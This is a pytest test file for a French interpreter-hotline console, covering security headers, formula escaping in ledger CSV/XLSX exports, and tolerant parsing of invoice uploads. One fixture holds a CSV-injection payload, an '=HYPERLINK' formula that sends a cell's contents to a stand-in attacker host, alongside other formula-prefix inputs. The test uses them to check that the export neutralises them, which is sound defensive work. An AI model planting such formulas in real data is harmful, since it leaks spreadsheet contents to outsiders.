"""Issue 13, the console's side: security headers, CSV formulas neutralised, invoice CSVs as
French spreadsheets write them, an upload too large answered by a console page."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from hotline.headers import content_security_policy
from interpreter_pool.admin import add_interpreter
from tests.conftest import post_signed, voice_form
from tests.factories import make_helpline, make_ledger_entry, make_request, make_user
from tests.integration.test_console_access import console, csrf_of, sign_in

__all__ = ["console"]  # the fixture, imported for these tests

T0 = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)


def test_every_console_page_carries_the_security_headers(
    console: FlaskClient, session: Session
) -> None:
    make_user(session, "nurse,admin,finance", "all@example.org")
    login = console.get("/console/login")
    assert sign_in(console, "all@example.org") == 302
    request = make_request(session, reference="2026-00001", opened_at=T0)
    for path in ["/console/login", "/console/board", f"/console/requests/{request.id}",
                 "/console/callbacks", "/finance", "/finance/ledger", "/finance/ledger.csv",
                 "/admin"]:  # fmt: skip
        response = login if path == "/console/login" else console.get(path)
        assert response.status_code == 200, path
        headers = response.headers
        csp = headers["Content-Security-Policy"]
        assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] in ("same-origin", "no-referrer", "strict-origin")
        assert "no-store" in headers["Cache-Control"], path
    secure = console.get("/console/board", base_url="https://hotline.example.org")
    assert secure.headers["Strict-Transport-Security"].startswith("max-age=")
    static = console.get("/static/console.css")
    assert "no-store" not in static.headers.get("Cache-Control", "")
    assert "Content-Security-Policy" in static.headers


def test_no_hsts_over_plain_http_and_the_sdk_origin_is_allowed(app: Flask) -> None:
    plain = app.test_client().get("/console/login")
    assert "Strict-Transport-Security" not in plain.headers
    assert "X-Frame-Options" in plain.headers
    policy = content_security_policy("https://sdk.example.net/twilio.min.js")
    assert "script-src 'self' https://sdk.example.net;" in policy


def test_twiml_gets_only_the_harmless_headers(client: FlaskClient, session: Session) -> None:
    make_helpline(session)
    response = post_signed(client, "/twilio/voice/incoming", voice_form("CA" + "1" * 32))
    assert response.status_code == 200
    assert response.mimetype in ("text/xml", "application/xml")
    assert "Content-Security-Policy" not in response.headers
    assert "X-Frame-Options" not in response.headers
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_the_ledger_export_neutralises_formulas(console: FlaskClient, session: Session) -> None:
    helpline = make_helpline(session)
    interpreter = add_interpreter(
        session, '=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+33610000001", ["ar"]
    )
    for n, label in enumerate(["+33 1 23", "-2+3", "@SUM(A1:A9)", "\tcalc", "Séance ok"]):
        make_ledger_entry(
            session,
            posted_at=T0,
            helpline_id=helpline.id,
            interpreter_id=interpreter.id,
            language="ar",
            service_at=T0,
            duration_s=60,
            billable_s=60,
            amount=Decimal("-1.00") if n == 0 else Decimal("1.00"),
            label=label,
            dedupe_key=f"s{n}",
        )
    make_user(session, "finance", "finance@example.org")
    assert sign_in(console, "finance@example.org") == 302
    text = console.get("/finance/ledger.csv").get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for line in text.splitlines()[1:] for cell in line.split(";")]
    assert not [cell for cell in cells if cell.lstrip('"')[:1] in ("=", "+", "@", "\t")]
    assert any(cell.startswith("\"'=HYPERLINK(") for cell in cells)
    for label in ["'+33 1 23", "'-2+3", "'@SUM(A1:A9)", "'\tcalc", "Séance ok"]:
        assert label in text
    assert ";-1,00;" in text  # a negative amount stays a number
    workbook = openpyxl.load_workbook(io.BytesIO(console.get("/finance/ledger.xlsx").get_data()))
    cells = [cell for row in workbook["Grand livre"].iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")' in texts
    assert "'@SUM(A1:A9)" in texts and -1 in [cell.value for cell in cells]


def _upload(console: FlaskClient, session: Session, raw: bytes) -> tuple[int, str]:
    make_helpline(session)
    interpreter = add_interpreter(session, "Samira Haddad", "+33610000001", ["ar"])
    make_user(session, "finance", "finance@example.org")
    assert sign_in(console, "finance@example.org") == 302
    token = csrf_of(console, "/finance/invoice-check")
    response = console.post(
        "/finance/invoice-check",
        data={
            "csrf_token": token,
            "provider": str(interpreter.id),
            "month": "2026-11",
            "invoice": (io.BytesIO(raw), "facture.csv"),
        },
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    return response.status_code, response.get_data(as_text=True)


INVOICE = [
    "date;heure;durée;langue;montant",
    "23/11/2026;10:16;16 min;arabe;56,00 €",
    "23/11/2026;14:20;20 min;arabe;70,00 €",
]


@pytest.mark.parametrize(
    ("raw", "name"),
    [
        ("\r".join(INVOICE).encode("utf-8"), "CR (CSV Macintosh)"),
        ("\r\n".join(INVOICE).encode("utf-8-sig"), "UTF-8 BOM, CRLF"),
        ("\r\n".join(INVOICE).encode("cp1252"), "Windows-1252"),
        (
            "\n".join(
                line.replace(";", ",").replace("56,00 €", '"56,00"').replace("70,00 €", '"70,00"')
                for line in INVOICE
            ).encode("utf-8"),
            "comma separated, decimal comma",
        ),
    ],
)
def test_the_invoice_check_reads_what_french_spreadsheets_write(
    console: FlaskClient, session: Session, raw: bytes, name: str
) -> None:
    status, page = _upload(console, session, raw)
    assert status == 200, name
    assert "absente chez nous" in page, name  # both lines read (nothing of ours to match)
    assert "Lignes illisibles" not in page or "ligne 4" in page, name


@pytest.mark.parametrize(
    "raw",
    [
        bytes(range(256)) * 8,
        b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 200,
        b"\x89PNG\r\n\x1a\n\x00\x00",
    ],
)
def test_a_binary_invoice_gets_a_clear_message_not_a_500(
    console: FlaskClient, session: Session, raw: bytes
) -> None:
    status, page = _upload(console, session, raw)
    assert status == 400
    assert "pas un CSV lisible" in page


def test_an_upload_over_the_limit_gets_a_console_page_in_the_persons_language(
    console: FlaskClient, session: Session
) -> None:
    make_user(session, "finance", "finance@example.org")
    assert sign_in(console, "finance@example.org") == 302
    token = csrf_of(console, "/finance/invoice-check")
    big = io.BytesIO(b"a;b\n" * (1024 * 1024))
    response = console.post(
        "/finance/invoice-check?lang=en",
        data={"csrf_token": token, "provider": "1", "month": "2026-11", "invoice": (big, "f.csv")},
        content_type="multipart/form-data",
        headers={"Accept": "text/html"},
    )
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "<html" in page and "File too large" in page
    assert "Content-Security-Policy" in response.headers


def test_an_out_of_range_provider_id_is_refused_with_a_message(
    console: FlaskClient, session: Session
) -> None:
    make_user(session, "finance", "finance@example.org")
    assert sign_in(console, "finance@example.org") == 302
    token = csrf_of(console, "/finance/invoice-check")
    response = console.post(
        "/finance/invoice-check",
        data={
            "csrf_token": token,
            "provider": "99999999999999999999",
            "month": "2026-11",
            "invoice": (io.BytesIO(b"x"), "f.csv"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "Choisissez un prestataire et un mois." in page
    assert 'value="2026-11"' in page  # what was typed is kept
